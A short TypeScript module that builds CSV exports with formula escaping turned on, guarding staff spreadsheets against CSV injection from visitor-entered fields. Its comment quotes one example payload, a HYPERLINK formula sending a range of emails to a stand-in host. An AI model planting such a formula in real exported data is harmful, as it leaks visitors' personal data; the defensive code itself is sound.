import { type Stringifier, stringify } from "csv-stringify";

/**
 * A CSV stream for staff to open in Excel or Sheets. Visitors write most of what goes in (names,
 * companies, UTM fields), and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab
 * or a carriage return as a formula: `=HYPERLINK("https://evil.example/?d="&D2:D500,"Open")` would
 * send the sheet's emails away in a click. `escape_formulas` prefixes such cells with `'`, which
 * shows the text as typed (OWASP's advice for CSV injection). Every export goes through here.
 */
export function spreadsheetCsv(columns: ReadonlyArray<{ key: string; header: string }>): Stringifier {
  return stringify({ header: true, columns: [...columns], escape_formulas: true });
}
